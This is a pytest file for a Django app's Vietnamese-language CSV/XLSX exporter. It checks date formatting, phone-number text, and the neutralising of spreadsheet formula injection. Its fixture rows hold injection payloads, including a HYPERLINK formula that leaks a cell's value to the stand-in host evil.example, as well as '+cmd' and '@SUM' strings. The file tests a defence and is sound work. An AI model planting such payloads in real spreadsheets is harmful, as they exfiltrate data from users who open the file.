"""The one exporter base: formula-like text made inert, dates as dates, CSV that Excel opens in Vietnamese."""

import csv
import datetime
import io

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from members.exporting import CSV_TYPE, XLSX_TYPE, SheetColumn, SheetExporter


class Sample(SheetExporter):
    filename = "mau"
    sheet_title = "Một tiêu đề dài hơn ba mươi mốt ký tự của Excel"
    columns = [
        SheetColumn("Họ và tên", 28),
        SheetColumn("Ngày sinh", 12),
        SheetColumn("Gửi lúc", 16),
        SheetColumn("Số", 8),
        SheetColumn("Điện thoại", 14, text=True),
        SheetColumn("Ghi chú", 30),
    ]
    rows = [
        [
            '=HYPERLINK("http://evil.example/?x="&G2,"x")',
            datetime.date(1975, 3, 5),
            datetime.datetime(2024, 3, 15, 1, 30, tzinfo=datetime.UTC),
            -5,
            "0912345678",
            gettext_lazy("Chính thức"),
        ],
        ["+cmd", None, None, 1200, 912345678, "@SUM(A1)"],
        ["-2+3", None, None, 0, "", "\t=1"],
        ["\r=1", None, None, None, None, "đầu\x0bcuối"],
    ]

    def iterate_list(self):
        yield from self.rows


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_csv_is_utf8_with_a_bom_dates_in_vietnamese_order_and_formulas_inert():
    filename, content_type, content = Sample().export("csv")
    assert (filename, content_type) == ("mau.csv", CSV_TYPE)
    assert content.startswith("\ufeff".encode()) and b"\r\n" in content
    header, *rows = csv_rows(content)
    assert header == ["Họ và tên", "Ngày sinh", "Gửi lúc", "Số", "Điện thoại", "Ghi chú"]
    assert rows[0] == [
        '\'=HYPERLINK("http://evil.example/?x="&G2,"x")',
        "05/03/1975",
        "15/03/2024 08:30",
        "-5",
        "0912345678",
        "Chính thức",
    ]
    assert [row[0] for row in rows[1:]] == ["'+cmd", "'-2+3", "'\r=1"]
    assert [row[5] for row in rows[1:3]] == ["'@SUM(A1)", "'\t=1"]
    assert rows[1][1:3] == ["", ""]


def test_xlsx_holds_dates_as_dates_numbers_as_numbers_and_no_formula():
    filename, content_type, content = Sample().export("xlsx")
    assert (filename, content_type) == ("mau.xlsx", XLSX_TYPE)
    sheet = load_workbook(io.BytesIO(content)).active
    first, second, third, fourth = (sheet[n] for n in range(2, 6))
    assert first[0].value == '\'=HYPERLINK("http://evil.example/?x="&G2,"x")'
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert (first[1].value, first[1].number_format) == (datetime.datetime(1975, 3, 5), "DD/MM/YYYY")
    # Stored in UTC, shown as the time in Vietnam.
    assert (first[2].value, first[2].number_format) == (
        datetime.datetime(2024, 3, 15, 8, 30),
        "DD/MM/YYYY HH:MM",
    )
    assert (first[3].value, second[3].value) == (-5, 1200)
    # A phone number keeps its leading zero, and a number typed into a text column becomes text.
    assert (first[4].value, first[4].number_format) == ("0912345678", "@")
    assert (second[4].value, second[4].data_type) == ("912345678", "s")
    assert first[5].value == "Chính thức"
    assert [second[0].value, third[0].value, fourth[0].value] == ["'+cmd", "'-2+3", "'\r=1"]
    assert [second[5].value, third[5].value] == ["'@SUM(A1)", "'\t=1"]
    # A control character Excel refuses is dropped rather than failing the whole export.
    assert fourth[5].value == "đầucuối"


def test_xlsx_has_a_bold_header_that_stays_in_view_and_the_columns_widths():
    sheet = load_workbook(io.BytesIO(Sample().to_xlsx())).active
    assert sheet.title == "Một tiêu đề dài hơn ba mươi mốt"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert [sheet.column_dimensions[letter].width for letter in "ABCDEF"] == [28, 12, 16, 8, 14, 30]
    assert not sheet["F2"].alignment.wrap_text


def test_long_text_wraps_where_the_exporter_asks():
    class Wrapped(Sample):
        wrap = True

    sheet = load_workbook(io.BytesIO(Wrapped().to_xlsx())).active
    assert sheet["F2"].alignment.wrap_text and sheet["F2"].alignment.vertical == "top"


def test_only_xlsx_and_csv_are_written():
    with pytest.raises(ValueError, match="ods"):
        Sample().export("ods")
